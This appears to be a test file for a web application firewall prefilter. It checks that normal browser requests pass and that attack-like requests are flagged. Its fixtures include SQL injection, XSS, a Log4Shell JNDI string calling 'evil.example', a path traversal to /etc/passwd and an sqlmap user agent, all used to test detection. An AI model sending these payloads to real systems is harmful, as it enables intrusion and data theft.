import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import fc from 'fast-check';
import { LIMITS } from '@aegis/base';
import type { WafExclusion, WafRulesConfig } from '@aegis/config';
import { packRequest } from '../src/engine/pack.ts';
import type { WasmModule } from '../src/webassembly.ts';
import { PrefilterInstance } from '../src/prefilter/instance.ts';
import {
  createPrefilters,
  type ExcludableRules,
  holdsFor,
  loadPrefilters,
  prefilterArtefact,
  type Prefilters,
} from '../src/prefilter/prefilters.ts';
import type { RequestFacts } from '../src/types.ts';
import { get, post, RULES } from './requests.ts';

const FORM = 'application/x-www-form-urlencoded';

describe('prefilter', () => {
  let prefilters: Prefilters;
  let module: WasmModule;
  let excludable: ExcludableRules;

  before(async () => {
    const artefact = await prefilterArtefact();
    module = artefact.module;
    excludable = artefact.description.excludable;
    prefilters = await loadPrefilters();
    assert.ok(prefilters.prefilterFor(RULES));
    await prefilters.built();
  });

  const isClean = (facts: RequestFacts, rules: Partial<WafRulesConfig> = {}): boolean =>
    prefilters.prefilterFor({ ...RULES, ...rules })?.noRuleCanMatch(facts) ?? false;

  it('knows that no rule can match what browsers send', () => {
    assert.equal(isClean(get('/products/1234?color=red&size=42&q=%C3%BCber%20uns')), true);
    assert.equal(isClean(get('/', ['cookie', 'session=8f14e45fceea167a; theme=dark', 'referer', 'https://example.com/?a=1&b=2'])), true);
    assert.equal(isClean(post('name=Zo%C3%AB+O%27Brien&message=hello%2C+world', FORM)), true);
    assert.equal(isClean(post('{"items":[{"id":1,"price":9.5,"tags":["a","b"]}],"ok":true,"note":null}', 'application/json')), true);
  });

  it('asks about attacks in every part of a request', () => {
    const attacks: Record<string, RequestFacts> = {
      query: get("/?id=1'%20OR%20'1'='1"),
      'name of an argument': get('/?%3Cscript%3Ealert(1)%3C/script%3E=1'),
      path: get('/.git/config'),
      cookie: get('/', ['cookie', 'a=${jndi:ldap://evil.example/a}']),
      header: get('/', ['x-api-version', '${jndi:ldap://evil.example/a}']),
      'user agent': { ...get('/'), fields: ['host', 'a.example', 'accept', '*/*', 'user-agent', 'sqlmap/1.7'] },
      form: post('file=../../../../etc/passwd', FORM),
      json: post('{"a":[{"b":"<script>alert(1)</script>"}]}', 'application/json'),
      method: { ...get('/'), method: 'TRACE' },
      encoded: get('/?q=%253Cscript%253Ealert(1)'),
    };
    for (const [where, attack] of Object.entries(attacks)) assert.equal(isClean(attack), false, where);
  });

  it('asks about what it does not follow', () => {
    const body = post('{"a":1}', 'application/json');
    assert.equal(isClean(body), true);
    assert.equal(isClean({ ...body, bodyIsCut: true }), false);
    assert.equal(isClean(post('--x\r\n', 'multipart/form-data; boundary=x')), false);
    assert.equal(isClean(post('<a/>', 'text/xml')), false);
    for (const broken of ['{"a":1', '{"a":01}', '{"a":"\\ud800"}', '{"a":1}x', '[1,]', '"text"']) {
      assert.equal(isClean(post(broken, 'application/json')), false, broken);
    }
    for (const target of ['*', 'http://a.example/', '/a b', '/%zz', '//a', '/a#b', '/\u0001'])
      assert.equal(isClean(get(target)), false, target);
  });

  it('asks as soon as a policy’s bounds on arguments and depth are near', () => {
    const pairs = (count: number): RequestFacts => get(`/?${Array.from({ length: count }, (_, i) => `a${i}=b`).join('&')}`);
    assert.equal(isClean(pairs(19), { argumentsMax: 20 }), true);
    assert.equal(isClean(pairs(20), { argumentsMax: 20 }), false);
    const nested = (depth: number): RequestFacts => post(`${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`, 'application/json');
    assert.equal(isClean(nested(8), { depthMax: 10 }), true);
    assert.equal(isClean(nested(10), { depthMax: 10 }), false);
    assert.equal(isClean(nested(70), { depthMax: 1_000 }), false);
  });

  it('knows of no clean request before it is built', async () => {
    const fresh = createPrefilters(module, excludable);
    const prefilter = fresh.prefilterFor(RULES);
    assert.equal(prefilter?.noRuleCanMatch(get('/')), false);
    await fresh.built();
    assert.equal(prefilter?.noRuleCanMatch(get('/')), true);
  });

  it('looks for more at higher paranoia levels', async () => {
    const strict = { paranoia: 4 } as const;
    assert.equal(isClean(get('/?q=%C3%BC%23'), strict), false);
    await prefilters.built();
    assert.equal(isClean(get('/?q=%C3%BC%23')), true);
    assert.equal(isClean(get('/?q=%C3%BC%23'), strict), false);
  });

  it('leaves large requests to the engine: it runs in the event loop', () => {
    const form = (length: number): RequestFacts => post(`a=${'b'.repeat(length)}`, FORM);
    const max = LIMITS.wafPrefilterBytesMax.value;
    assert.equal(isClean(form(max / 2)), true);
    assert.equal(isClean(form(max)), false);
    assert.equal(isClean(get('/', ['cookie', `a=${'b'.repeat(max / 2)}`])), true);
    assert.equal(isClean(get('/', ['cookie', `a=${'b'.repeat(max)}`])), false);
  });

  it('is not for rules that it does not know, or that others rely on', () => {
    const excluding = (...exclusions: WafExclusion[]): boolean => holdsFor({ ...RULES, exclusions }, excludable);
    const id = (number: number, target: string | null = null): WafExclusion => ({
      rules: { kind: 'id', id: number },
      target,
      pathPrefix: null,
    });
    const tag = (name: string, target: string | null = null): WafExclusion => ({
      rules: { kind: 'tag', tag: name },
      target,
      pathPrefix: null,
    });
    assert.equal(excluding(id(942100), id(941100, 'ARGS:html'), tag('attack-sqli'), tag('attack-xss', 'ARGS')), true);
    assert.equal(excluding(id(901160)), false, 'sets the allowed methods');
    assert.equal(excluding(id(942013)), false, 'keeps rules of paranoia level 2 from running');
    assert.equal(excluding(tag('OWASP_CRS')), false, 'all rules, and what they rely on');
    assert.equal(excluding(tag('never-heard-of')), false);
    assert.equal(excluding(id(920280, 'REQUEST_HEADERS:Host')), false, 'counts what would be left out');
    assert.equal(excluding(id(932161, 'REQUEST_HEADERS:User-Agent')), true);
    assert.equal(excluding(tag('attack-rce', 'REQUEST_HEADERS:User-Agent')), false);
    assert.equal(excluding(id(942100, 'TX:anomaly')), false);
    assert.equal(holdsFor({ ...RULES, custom: 'SecAction "id:1,phase:1,pass"' }, excludable), false);
  });

  it('takes any bytes for a request without breaking', () => {
    const instance = new PrefilterInstance(module, 1);
    while (!instance.build());
    const bounds = { argumentsMax: 100, depthMax: 10 };
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 400 }), (bytes) => {
        assert.ok(instance.mayMatch(bytes, bounds) || instance.rulesThatMayMatch(bytes, bounds).length === 0);
      }),
    );
    const latin1 = fc.string({ unit: fc.integer({ min: 0, max: 255 }).map((code) => String.fromCharCode(code)), maxLength: 60 });
    fc.assert(
      fc.property(latin1, latin1, latin1, (target, value, body) => {
        const packed = packRequest({
          ...post(body, FORM),
          target: `/${target}`,
          fields: [...get('/').fields, 'cookie', value, 'x-any', value],
        });
        assert.ok(instance.mayMatch(packed, bounds) || instance.rulesThatMayMatch(packed, bounds).length === 0);
      }),
    );
  });
});
